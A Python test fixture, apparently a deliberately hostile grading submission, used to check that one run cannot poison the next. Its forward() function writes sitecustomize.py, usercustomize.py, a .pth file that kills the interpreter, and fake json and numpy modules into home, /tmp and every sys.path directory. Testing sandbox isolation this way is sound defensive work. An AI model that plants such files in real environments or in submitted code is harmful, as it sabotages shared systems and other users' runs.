# expect: load=ok forward=ok
# check: next_submission_unaffected
# Leaves sitecustomize.py, usercustomize.py, a .pth file and modules shadowing json and numpy
# wherever it can (its own directory, home, every directory on sys.path), for the next
# submission to trip over.
import os
import sys

import numpy as np

EVIL = "raise SystemExit('poisoned by a previous submission')\n"
NAMES = {"sitecustomize.py": EVIL, "usercustomize.py": EVIL, "json.py": EVIL, "numpy.py": EVIL,
         "zz_evil.pth": "import os; os._exit(3)\n"}


def forward(x, W1, b1, W2, b2):
    wrote = []
    for folder in [".", os.path.expanduser("~"), "..", "/tmp"] + sys.path:
        for name, text in NAMES.items():
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(text)
                wrote.append(os.path.join(folder, name))
            except OSError:
                pass
    print("WROTE", len(wrote))
    return np.zeros((2, 1)), np.zeros((2, 1))
